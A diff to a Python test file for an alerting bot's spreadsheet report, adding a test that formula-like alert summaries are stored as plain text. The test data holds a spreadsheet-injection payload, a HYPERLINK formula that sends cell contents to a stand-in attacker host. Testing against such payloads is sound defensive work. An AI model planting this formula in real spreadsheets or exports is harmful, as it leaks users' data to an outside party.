@@ -18,7 +18,7 @@ import pytest
 import requests
 import yaml
 
-from megatrace.alertbot.report import build_report
+from megatrace.alertbot.report import DETAIL_COLUMNS, build_report
 from megatrace.alertbot.service import Service
 from megatrace.cli import main
 from tests.alertbot.conftest import TOKEN, Bot, alert, config, fingerprint, webhook
@@ -359,3 +359,24 @@ def test_report_beside_a_running_bot_that_writes_the_database(tmp_path: Path) ->
     assert set(posted) == {200}
     assert console_kinds().count("firing") == len(posted)
     assert console_kinds().count("report") == 1  # the bot and the command never both send it
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_summary_that_looks_like_a_formula_stays_text(tmp_path: Path, lead: str) -> None:
+    """Alert text is data: a summary starting as a spreadsheet formula reloads as the same string."""
+    bot = Bot(config(tmp_path))
+    text = f'{lead}HYPERLINK("http://evil.example/?"&A1,"click")'
+    item = alert("GpuThrottled", starts_at=at(17, 8), severity="P2", instance=f"{lead}1+1")
+    item["annotations"]["summary"] = text
+    bot.receive(webhook(item), at(17, 8) + 5)
+    path = tmp_path / "week.xlsx"
+    build_report(bot.store, at(16, 0), at(23, 0), path)
+    detail = openpyxl.load_workbook(path)["Detail"]
+    column = DETAIL_COLUMNS.index("Summary") + 1
+    cell = detail.cell(2, column)
+    assert (cell.value, cell.data_type) == (text, "s")
+    node = detail.cell(2, DETAIL_COLUMNS.index("Node") + 1)
+    assert (node.value, node.data_type) == (f"{lead}1+1", "s")
+    with zipfile.ZipFile(path) as book:
+        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/")]
+        assert sheets and not any(re.search(rb"<(\w+:)?f[ >/]", book.read(name)) for name in sheets)
